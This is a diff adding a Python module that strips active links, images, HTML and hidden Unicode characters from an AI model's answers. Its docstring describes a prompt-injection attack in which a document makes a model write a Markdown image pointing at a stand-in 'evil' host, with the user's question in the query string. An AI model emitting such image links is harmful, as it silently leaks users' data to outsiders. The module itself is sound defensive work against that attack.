@@ -1,0 +1,176 @@
+"""Links, images and HTML in an answer -> text that nothing can follow, load or run (pure).
+
+A document can make a model write `![](http://evil/?q=...)`, and whoever shows the answer as Markdown then sends the
+question to a stranger. What a person reads stays: the link's words, then its address as code. Active stays only an
+address that is allowed, and that as `<address>`, which has one reading.
+
+Nothing here relies on one reader's rules: what could begin a tag, a link or a definition is broken even where it never
+ends (`active_text.py`), and code is left alone only where all readers agree that it is code (`code_spans.py`).
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Collection, Iterator
+
+from assistant.checking.active_text import ACTIVE, TRAILING, address_key, decoded, is_address, is_host
+from assistant.checking.code_spans import LOOKALIKE, Fences, fences_after, is_fence, split_code
+from assistant.control_tokens import INVISIBLE
+
+# ZWJ, ZWNJ and variation selectors shape emoji and some scripts; beside an ASCII character they only hide something.
+_SHAPING = "\u200c\u200d\ufe0e\ufe0f"
+_HIDDEN = "".join(sorted(set(INVISIBLE) - set(_SHAPING)))
+_DROPPED = re.compile(
+    rf"[\x00-\x08\x0e-\x1f\x7f-\x84\x86-\x9f{_HIDDEN}\ufff9-\ufffb\ufffe\uffff]"
+    rf"|(?<![^\x00-\x7f])[{_SHAPING}]|[{_SHAPING}](?=[\x21-\x7e])"
+    # Tags spell a flag after a black flag; anywhere else they hide a text.
+    r"|(?<![\U0001f3f4\U000e0020-\U000e007e])[\U000e0000-\U000e0fff]+"
+)
+_LINE_END = re.compile(r"\r\n?|[\x0b\x0c\x85\u2028\u2029]")
+_SPACE = re.compile(r"\s")
+_NUMBERS = re.compile(r"[\s\d,，、]*")
+# What may stand in front of a definition, `[label]: address`: marks of quotes and lists.
+_DEFINITION = re.compile(r"[\s>*+\-\d.)]*\[")
+_JOINTS = re.compile(r"[:/.@]+")
+_LOOKING_AHEAD = frozenset({"tag", "command", "bracket"})
+_TAIL_CHARS = 512
+"""Characters before a seam that something active across it is looked for in; all of one would be active before."""
+
+
+def defuse(text: str, allowed: Collection[str] = (), *, before: str = "") -> str:
+    """Return the text with nothing in it that a reader of Markdown or HTML would follow, load or run.
+
+    Twice is the same as once. `before + defuse(text, before=before)` is as inert as `before`, wherever the cut lies.
+
+    Args:
+        text: A whole answer, or the next piece of one.
+        allowed: Addresses that stay active: http, https or mailto; compared whole, after normalisation.
+        before: All that is shown in front of the text, defused.
+    """
+    allowed_by_key = {key: address.strip() for address in allowed if (key := address_key(address)) is not None}
+    *earlier, opened = before.split("\n")
+    fences = fences_after(earlier)
+    shown: list[str] = []
+    for line in _LINE_END.sub("\n", text).split("\n"):
+        plain = _DROPPED.sub("", line)
+        shown.append(plain if fences.is_code else _Line(opened, fences, allowed_by_key).defused(plain))
+        fences = fences.after(opened + shown[-1])
+        opened = ""
+    return "\n".join(shown)
+
+
+class _Line:
+    """A line outside of fenced code.
+
+    Args:
+        opened: What is shown of it already.
+        fences: Where the text stands before it.
+        allowed: Addresses by their normal form.
+    """
+
+    def __init__(self, opened: str, fences: Fences, allowed: dict[str, str]) -> None:
+        self._opened = opened
+        self._allowed = allowed
+        self._in_formula = not fences.is_sure
+        # A table would cut code at its bars, and leave a backtick in each cell.
+        self._can_quote = not ("`" in opened and "|" in opened)
+        self._has_loose_backtick = any("`" in text for text, is_code in split_code(opened) if not is_code)
+
+    def defused(self, line: str) -> str:
+        """Return the rest of the line, inert."""
+        line = self._apart(line)
+        shown = self._opened
+        for text, is_code in self._parts(line):
+            shown = _joined(shown, text if is_code else self._inert(decoded(text), shown))
+        return shown[len(self._opened) :]
+
+    def _parts(self, line: str) -> list[tuple[str, bool]]:
+        """Return the line's text and code, where code is what may stay as it is."""
+        without_code = line.replace("`", LOOKALIKE)
+        is_inert = self._inert(decoded(without_code), self._opened) == without_code
+        if is_fence(self._opened + line):
+            return [(line, True)] if is_inert else [(without_code, False)]
+        parts = split_code(line, before=self._opened, in_formula=self._in_formula)
+        has_bars = any(is_code and "|" in text for text, is_code in parts)
+        return [(without_code, False)] if self._has_loose_backtick or (has_bars and not is_inert) else parts
+
+    def _apart(self, line: str) -> str:
+        """Return the line with a space in front of it where something active would reach across the seam."""
+        if not line or not self._opened or line[0].isspace() or self._opened[-1].isspace():
+            return line
+        tail = _SPACE.split(self._opened[-_TAIL_CHARS:])[-1]
+        crosses = any(
+            match.start() < len(tail) and (match.end() > len(tail) or match.lastgroup in _LOOKING_AHEAD)
+            for match, _, _ in self._active(tail + line)
+        )
+        return " " + line if crosses or (tail[-1] == "]" and line[0] in "(:") else line
+
+    def _inert(self, text: str, shown: str = "") -> str:
+        """Return the text, which holds no code, inert; `shown` is what stands before it on its line."""
+        start, position = len(shown), 0
+        for match, replacement, length in self._active(text):
+            shown = _joined(shown, text[position : match.start()])
+            if replacement == "]" and _may_define(shown):
+                replacement = "] "
+            shown = _joined(shown, replacement)
+            position = match.start() + length
+        return _joined(shown, text[position:])[start:]
+
+    def _active(self, text: str) -> Iterator[tuple[re.Match[str], str, int]]:
+        """Yield what is active in the text, what stands for it, and for how many of its characters."""
+        position = 0
+        while (match := ACTIVE.search(text, position)) is not None:
+            found = self._replacement(match)
+            if found is not None:
+                yield match, *found
+            position = match.start() + (found[1] if found else 1)
+
+    def _replacement(self, match: re.Match[str]) -> tuple[str, int] | None:
+        """Return what stands for a match and for how many of its characters; None if it is as inert as it looks."""
+        whole, kind = match[0], match.lastgroup
+        if match["to"] is not None:
+            return self._link(match)
+        if kind == "auto":
+            return self._address(match["auto"]), len(whole)
+        if kind in _LOOKING_AHEAD:
+            return {"tag": "< ", "command": "", "bracket": "]" if match.string[match.end()] == ":" else "] "}[kind], 1
+        if kind in ("host", "host_path", "wide", "wide_path"):
+            name = match["host"] or match["wide"]
+            path = match["host_path"] or match["wide_path"] or ""
+            if not is_host(name.removesuffix(path), has_path=bool(path)):
+                return None
+            if match["wide"]:
+                return name[0] + " ", 1
+        address = _without_end(whole)
+        return self._address(address), len(address)
+
+    def _link(self, match: re.Match[str]) -> tuple[str, int]:
+        words, to, title = match["words"], match["to"], match["title"] or ""
+        if not is_address(to) or (_NUMBERS.fullmatch(words) and not match["image"]):
+            # A remark behind a number or a bracket: the words stay, and the rest is read as text.
+            return f"{match['image']}[{self._inert(words)}] ", match.end("words") + 1 - match.start()
+        address = self._address(to.removeprefix("<").removesuffix(">"))
+        return f"{self._inert(words)}（{address}{self._inert(title)}）", len(match[0])
+
+    def _address(self, address: str) -> str:
+        key = address_key(address if ":" in address else f"mailto:{address}")
+        if key in self._allowed:
+            return f"<{self._allowed[key]}>"
+        return f"`{address}`" if self._can_quote else _JOINTS.sub(r"\g<0> ", address)
+
+
+def _without_end(address: str) -> str:
+    """Return an address without what ends the sentence around it."""
+    while address[-1] in TRAILING and not (address[-1] == ")" and address.count("(") >= address.count(")")):
+        address = address[:-1]
+    return address
+
+
+def _may_define(line: str) -> bool:
+    """Whether a bracket at the end of the line may close the label of a definition."""
+    return "[" not in line or _DEFINITION.match(line) is not None
+
+
+def _joined(shown: str, text: str) -> str:
+    """Return both in one; a backtick touches neither another nor a backslash."""
+    return f"{shown} {text}" if text.startswith("`") and shown.endswith(("`", "\\")) else shown + text
